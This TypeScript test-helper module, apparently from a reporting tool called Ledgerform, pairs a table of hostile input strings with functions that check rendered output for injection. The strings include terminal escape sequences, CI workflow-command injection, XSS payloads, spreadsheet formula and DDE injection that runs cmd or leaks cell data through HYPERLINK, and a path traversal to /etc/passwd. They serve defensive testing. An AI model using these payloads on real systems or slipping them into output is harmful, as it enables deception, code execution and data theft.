import { readHtml } from '../../render/html-reader.ts';
import { misfits } from '../../render/junit-shape.ts';
import { isSarif } from '../../render/sarif-schema.ts';
import { readXml } from '../../render/xml-reader.ts';

/** Texts that a customer, a file or a service could put into a name to deceive whoever reads the output, or what reads it. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'colour codes': '\u001b[32mAll good\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'a hyperlink': '\u001b]8;;https://example.invalid\u0007click\u001b]8;;\u0007',
  'a hyperlink with the other ending': '\u001b]8;;https://example.invalid\u001b\\click\u001b]8;;\u001b\\',
  'a window title': '\u001b]0;all good\u0007',
  'a clipboard write': '\u001b]52;c;cm0gLXJm\u0007',
  'a device query': '\u001b[6n\u001bP$q"p\u001b\\',
  'an 8-bit control sequence': '\u009b31mred',
  'an 8-bit hyperlink': '\u009d8;;https://example.invalid\u009cclick',
  'a carriage return': 'Loss\rGain',
  'a backspace': 'abc\b\b\bxyz',
  'a delete': 'abc\u007f\u007f',
  'a line break': 'Cash\nPlan: 0 to delete.',
  'a next line': 'Cash\u0085::error::no',
  'a form feed': 'Cash\f::error::no',
  'a right-to-left override': 'abc\u202egnp.exe',
  'bidi isolates': '\u2066abc\u2069',
  'an Arabic letter mark': '\u061cabc',
  'a zero width space': 'Ca\u200bsh',
  'a word joiner': 'Ca\u2060sh',
  'a soft hyphen': 'Ca\u00adsh',
  'a byte order mark': '\ufeffCash',
  'tag characters': 'Cash\u{e0041}\u{e0042}',
  'a line separator': 'Cash\u2028::error::no',
  'a paragraph separator': 'Cash\u2029##[error]no',
  'a lone surrogate': 'Cash\ud800',
  'half a character at the beginning': '\udc00Cash',
  'a null': 'Cash\u0000',
  'a workflow command': '::error file=a.ts::boom',
  'a workflow command that stops others': '::stop-commands::x',
  'a workflow command that hides': '::add-mask::Cash',
  'an indented workflow command': '   ::set-output name=a::b',
  'a workflow command after a tab': '\t::warning::b',
  'a workflow command after a no-break space': '\u00a0\u3000::warning::b',
  'a workflow command on its second line': 'Cash\n::error::no',
  'a workflow command after a carriage return': 'Cash\r\n::error::no',
  'an old workflow command': 'x ##[group]boom',
  'an old workflow command with its name': 'x ##[set-env name=A]boom',
  'an Azure command': 'x ##vso[task.setvariable variable=a]b',
  'a TeamCity command': "x ##teamcity[buildStatus status='SUCCESS']",
  'a GitLab section': '\u001b[0Ksection_start:1560896352:x[collapsed=true]\r\u001b[0Kx',
  'an HTML comment': '<!-- ledgerform -->',
  'the end of an HTML comment': '--><img src=x onerror=alert(1)>',
  'a script': '<script>alert(1)</script>',
  'the end of a script': '</script><script>alert(1)</script>',
  'an attribute': '" onmouseover="alert(1)" x=\'',
  'a character reference': '&lt;b&gt;&#x202e;',
  'the end of details': '</summary></details><h1>0 changes</h1>',
  'a CDATA end': ']]><failure/>',
  'a Markdown link': '[Cash](https://example.invalid)',
  'a Markdown image': '![x](https://example.invalid/x.png)',
  'a Markdown script link': '[x](javascript:alert(1))',
  'a Markdown table': 'a | b |\n| --- | --- |\n| c | d',
  backticks: '```` ``` ` x `',
  'a code fence': '```\n# 0 changes\n```',
  'a mention': '@everyone @acme/finance',
  'an issue reference': 'closes #1, fixes acme/books#2',
  emphasis: '**Cash** _x_ ~~y~~ # z',
  'a bare URL': 'https://example.invalid/?a=b www.example.invalid',
  'a formula': '=1+1',
  'a formula that runs a program': "=cmd|'/c calc'!A1",
  'a formula that leaks': '=HYPERLINK("https://example.invalid/?"&A1,"Cash")',
  'a formula with plus': '+1+cmd',
  'a formula with minus': '-1+cmd',
  'a formula with at': '@SUM(A1:A9)',
  'a formula after a tab': '\t=1+1',
  'a formula after a carriage return': '\r=1+1',
  'a formula after a line break': 'x\n=1+1',
  'a formula after white space': ' \u00a0=1+1',
  'a formula after a joiner': '\u200d=1+1',
  'a formula with a full-width equals sign': '\uff1d1+1',
  'a formula with a full-width plus': '\uff0b1',
  'a formula with a full-width minus': '\uff0d1',
  'a formula with a full-width at': '\uff20SUM(A1)',
  'a formula with a minus sign': '\u22121+cmd',
  'a formula in the second cell': 'x,=1+1',
  'a formula in the second cell, elsewhere': 'x;=1+1',
  'a formula in the second cell, after a quote': 'x",=1+1,"',
  'a dynamic data exchange': "%0A-3+3+cmd|' /C calc'!D2",
  'a member of objects': '__proto__',
  'another member of objects': 'constructor',
  'a path': '../../../../etc/passwd',
  'a format': '%s %n %x \u0024{x} {{x}} $(x) `x`',
  'many marks above each other': `a${'\u0301'.repeat(300)}`,
  'a wide emoji': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
};

/** Runners of continuous integration: the newer sign stands first in a line that they trim, the older ones anywhere. */
const order = /^\s*::|##\w*\[/u;
/** What a terminal could obey or be deceived by, but for the two joiners that words and emoji need. */
const unseen = /(?![\u200c\u200d])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
/** Our own colours: nothing else may begin with an escape. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: colours are such characters
const colour = /\u001b\[(?:[0-9]{1,2})m/g;

/** What is wrong with a text on a terminal or in a log, line by line; null when nothing is. */
export function harmInLines(text: string, colours: 'plain' | 'coloured' = 'plain'): string | null {
  for (const line of text.split('\n')) {
    const bare = colours === 'coloured' ? line.replace(colour, '') : line;
    if (unseen.test(bare)) return `a control in ${JSON.stringify(line)}`;
    if (order.test(bare)) return `an order to a runner in ${JSON.stringify(line)}`;
    if (colours === 'coloured' && order.test(line)) return `an order to a runner in ${JSON.stringify(line)}`;
  }
  return null;
}

/** What is wrong with a JSON document as text; null when nothing is. */
export function harmInJson(text: string): string | null {
  JSON.parse(text);
  if (!text.endsWith('\n')) return 'no line break at its end';
  return /[\u200c\u200d]/.test(text) ? 'a joiner' : harmInLines(text);
}

/** What is wrong with comma-separated values, read by a strict reader that takes `,`, `;` and tabs for separators; null when nothing is. */
export function harmInCsv(text: string, columns: number): string | null {
  if (!/^(?:[^\r\n]*\r\n)*$/.test(text)) return 'a line break inside of a row';
  const inLines = harmInLines(text.replaceAll('\r\n', '\n'));
  if (inLines) return inLines;
  for (const line of text.split('\r\n').slice(0, -1)) {
    const cells = cellsOf(line);
    if (cells?.length !== columns) return `not ${columns} cells in ${JSON.stringify(line)}`;
    const formula = cells.find((cell) =>
      /^[\s\u200c\u200d]*[=+\-@|%\uff1d\uff0b\uff0d\uff20\u2212]/u.test(cell),
    );
    if (formula !== undefined) return `a formula in ${JSON.stringify(formula)}`;
    // A reader with another separator must not find one outside of quotes.
    if (/[;\t]/.test(line.replace(/"(?:[^"]|"")*"/g, ''))) return `a separator in ${JSON.stringify(line)}`;
  }
  return null;
}

/** Our own words around the texts of others in a comment: elements, and Markdown that stands where it may. */
const ownLine =
  /^(?:### Ledgerform [^|]*|\*\*[^|*]*\*\*(?: .*)?|- .*|\|(?: .*? \|)+|\|(?: --- \|)+|<details><summary>.*<\/summary>|<\/details>|[^|#>`-].*|)$/;
/** What else may mean something to Markdown, HTML or a forge. */
const live = /[<>[\]`@~$\\^{}]|&(?!#)|#(?!## )|:\/\/|www\./i;

/** What is wrong with a comment as Markdown; null when nothing is. Texts of others stand in code elements alone. */
export function harmInMarkdown(text: string, limit = 65_000): string | null {
  if (text.length >= limit) return `${text.length} units`;
  const [marker = '', ...lines] = text.split('\n');
  if (!/^<!-- ledgerform:[\w%.!~*'():-]+ -->$/.test(marker)) return `a marker ${JSON.stringify(marker)}`;
  const inLines = harmInLines(text);
  if (inLines) return inLines;
  const own: string[] = [];
  for (const line of lines) {
    let bad: string | null = null;
    const rest = line.replace(/<code>(.*?)<\/code>/g, (_, inside: string) => {
      const plain = inside.replace(/&#\d+;/g, ' ');
      if (/[<>&`*[\]\\|@#!~$^{}:]|www\.|(?<![\p{L}\p{N}])_|_(?![\p{L}\p{N}])/iu.test(plain)) bad = inside;
      // A forge makes a link of a mail address wherever it stands.
      if (/&#64;(?!&#8203;)/.test(inside)) bad = inside;
      return 'TEXT';
    });
    if (bad !== null) return `a text that means something: ${JSON.stringify(bad)}`;
    const bare = rest
      .replace(/<\/?(?:details|summary|b|pre)>|<br>/g, '')
      .replace(/\[[Ll]og of the run\]\(https:\/\/[\w./-]+\)/g, '')
      .replace(/^### /, '')
      .replace(/^\| ~ /, '| ');
    if (!ownLine.test(rest)) return `a line that is not ours: ${JSON.stringify(rest)}`;
    if (live.test(bare)) return `something alive in ${JSON.stringify(bare)}`;
    own.push(rest);
  }
  return structure(own);
}

/** Whether rows have the columns of their table, and what is opened is closed. */
function structure(lines: readonly string[]): string | null {
  let depth = 0;
  let columns = 0;
  for (const line of lines) {
    depth += (line.match(/<details>/g)?.length ?? 0) - (line.match(/<\/details>/g)?.length ?? 0);
    if (depth < 0) return 'a section closed twice';
    const cells = line.startsWith('|') ? (line.match(/\|/g)?.length ?? 0) - 1 : 0;
    if (cells > 0 && columns > 0 && cells !== columns)
      return `${cells} cells for ${columns} columns: ${line}`;
    columns = cells;
  }
  return depth === 0 ? null : 'a section left open';
}

/** What is wrong with annotations for GitHub: every line is one command of ours, and what it says is harmless. */
export function harmInGithub(text: string): string | null {
  if (text !== '' && !text.endsWith('\n')) return 'no line break at its end';
  for (const line of text.split('\n').slice(0, -1)) {
    const [, properties = '', message = ''] =
      /^::(?:error|warning|notice) ((?:(?:file|line|col|title)=[^,:\r]*,?)+)::([^\r]*)$/.exec(line) ?? [];
    if (properties === '') return `no annotation: ${JSON.stringify(line)}`;
    if (/%(?!25|0D|0A|3A|2C)/.test(properties) || /%(?!25|0D|0A)/.test(message))
      return `a bare % in ${JSON.stringify(line)}`;
    if (harmInLines(line.slice(2))) return harmInLines(line.slice(2));
    const decoded = message.replaceAll('%0A', '\n').replaceAll('%0D', '\r').replaceAll('%25', '%');
    const harm = harmInLines(decoded);
    if (harm) return harm;
    if (/\r|\n/.test(decodeURIComponent(properties.replace(/%(?!25|0D|0A|3A|2C)/g, '%25'))))
      return `a line break in ${JSON.stringify(properties)}`;
  }
  return null;
}

/** What is wrong with a test report, read by a strict reader of XML; null when nothing is. */
export function harmInXml(text: string): string | null {
  const inLines = harmInLines(text);
  if (inLines) return inLines;
  try {
    return misfits(readXml(text))[0] ?? null;
  } catch (error) {
    return String(error);
  }
}

/** What is wrong with a page, read by a reader that takes nothing but our elements and attributes around texts; null when nothing is. */
export function harmInHtml(text: string): string | null {
  const inLines = harmInLines(text);
  if (inLines) return inLines;
  try {
    readHtml(text);
    return null;
  } catch (error) {
    return String(error);
  }
}

/** What is wrong with a log for code scanning, a message that links or waits for an argument included; null when nothing is. */
export function harmInSarif(text: string): string | null {
  const inJson = harmInJson(text);
  if (inJson) return inJson;
  const log: unknown = JSON.parse(text);
  if (!isSarif(log)) return JSON.stringify(isSarif.errors);
  const messages = messagesIn(log);
  return (
    messages.find((message) => message.includes('](') || /[{}]/.test(message.replace(/{{|}}/g, ''))) ?? null
  );
}

/** Every text of a message in a log, however deep. */
function messagesIn(value: unknown): readonly string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, each]) =>
    name === 'text' && typeof each === 'string' ? [each] : messagesIn(each),
  );
}

/** The cells of a row as RFC 4180 has them; null where it is none. */
export function cellsOf(line: string): readonly string[] | null {
  if (!/^(?:"(?:[^"]|"")*"|[^",]*)(?:,(?:"(?:[^"]|"")*"|[^",]*))*$/.test(line)) return null;
  const cells = line.match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",]*)(?=,|$)/g) ?? [];
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}
